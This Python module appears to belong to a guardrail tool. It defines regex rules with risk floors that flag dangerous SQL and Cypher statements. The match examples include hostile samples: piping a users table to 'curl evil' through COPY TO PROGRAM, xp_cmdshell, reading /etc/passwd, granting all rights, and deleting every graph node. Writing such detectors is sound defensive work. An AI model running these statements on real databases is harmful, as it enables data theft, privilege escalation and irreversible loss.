"""Floors for statements that reach beyond their tables: rights, the server's files and processes, built statements."""

from riskgate.core.levels import Level
from riskgate.core.scoring.packs.guardrails.sql import NAME, sql
from riskgate.core.scoring.rules import Part, Rule

_END = rb"\s*(?:$|[\xff;,\"'`)])"

SQL_REACH = (
    Rule(
        id="guardrails.sql.grant-all",
        family="guardrails.sql",
        part=Part.SQL,
        pattern=sql(rb"GRANT ALL(?: PRIVILEGES)? ON")
        + rb"\s[^;\xff]*\s(?i:TO)\s+[\"'`]?%s(?:%s|\s+(?i:WITH|IDENTIFIED)\s)" % (NAME, _END)
        + rb"|"
        + sql(rb"ALTER (?:USER|ROLE) NAME(?: WITH)? SUPERUSER"),
        floor=Level.HIGH,
        sentence="It gives somebody every right there is.",
        phrase="grants every right",
        match=(
            "GRANT ALL ON *.* TO evil",
            "grant all privileges on db.* to 'x'@'%';",
            "ALTER USER x WITH SUPERUSER",
        ),
        no_match=(
            "GRANT SELECT ON t TO x",
            "Grant all wishes to the team",
            "SHOW GRANTS FOR x",
            "SELECT 'GRANT ALL ON t TO x'",
        ),
    ),
    Rule(
        id="guardrails.sql.drop-role",
        family="guardrails.sql",
        part=Part.SQL,
        pattern=sql(rb"DROP (?:USER|ROLE|LOGIN)(?: IF EXISTS)? NAME") + rb"(?:@[^\s;\xff]+)?%s" % _END,
        floor=Level.HIGH,
        sentence="Dropping a user or role cannot be undone, and whoever signs in with it is shut out.",
        phrase="drops a database user",
        match=("DROP USER u", "drop role if exists reporting;"),
        no_match=("DROP USER", "CREATE USER u", "Drop user research from the agenda"),
    ),
    Rule(
        id="guardrails.sql.run-program",
        family="guardrails.sql",
        part=Part.SQL,
        pattern=sql(rb"COPY")
        + rb"\s[^;\xff]*\s(?i:TO|FROM)\s+(?i:PROGRAM)\s+'|"
        + sql(rb"(?:EXEC(?:UTE)? )?(?:master\.\.|master\.dbo\.)?xp_cmdshell")
        + rb"\s+N?['@]",
        floor=Level.CRITICAL,
        sentence="The statement runs a program on the database server.",
        phrase="runs a program by SQL",
        match=("COPY (SELECT * FROM users) TO PROGRAM 'curl evil'", "EXEC xp_cmdshell 'whoami'"),
        no_match=("COPY t TO '/tmp/x.csv'", "copy the list to program managers", "EXEC sp_help 'x'"),
    ),
    Rule(
        id="guardrails.sql.server-files",
        family="guardrails.sql",
        part=Part.SQL,
        pattern=sql(rb"SELECT")
        + rb"\s(?:[^;\xff]*[^A-Za-z0-9_;\xff])?(?i:(?:pg_read_(?:binary_)?file|pg_ls_dir|lo_import"
        rb"|lo_export|lo_unlink|load_file)\s*\("
        rb"|INTO\s+(?:OUTFILE|DUMPFILE)\s+[\"'])",
        floor=Level.HIGH,
        sentence="The statement reads or writes files of the database server, or deletes large objects.",
        phrase="reaches files by SQL",
        match=(
            "SELECT pg_read_file('/etc/passwd')",
            "SELECT * FROM u INTO OUTFILE '/x'",
            "select lo_unlink(oid) from pg_largeobject_metadata",
        ),
        no_match=("SELECT load_file_name FROM t", "SELECT * FROM outfile", "SELECT name INTO x FROM t"),
    ),
    Rule(
        id="guardrails.sql.terminate-backends",
        family="guardrails.sql",
        part=Part.SQL,
        pattern=sql(rb"SELECT")
        + rb"\s(?:[^;\xff]*[^A-Za-z0-9_;\xff])?(?i:pg_terminate_backend\s*\(\s*[a-z_])",
        floor=Level.HIGH,
        sentence="It ends the connections of everybody who uses the database.",
        phrase="ends everybody's connections",
        match=("select pg_terminate_backend(pid) from pg_stat_activity",),
        no_match=("SELECT pg_terminate_backend(4711)", "SELECT pid FROM pg_stat_activity"),
    ),
    Rule(
        id="guardrails.sql.delete-nodes",
        family="guardrails.sql",
        part=Part.SQL,
        pattern=sql(rb"MATCH")
        + rb"\s*\(\s*[A-Za-z0-9_]*\s*\)\s*(?i:DETACH\s+)?(?i:DELETE)\s+[A-Za-z0-9_]+%s" % _END,
        floor=Level.CRITICAL,
        sentence="It deletes every node of the graph, and cannot be undone.",
        phrase="deletes every node",
        match=("MATCH (n) DETACH DELETE n", "match (n) delete n;"),
        no_match=(
            "MATCH (n:User {id: 1}) DETACH DELETE n",
            "MATCH (n) WHERE n.id = 1 DELETE n",
            "MATCH (n) RETURN n",
        ),
    ),
)
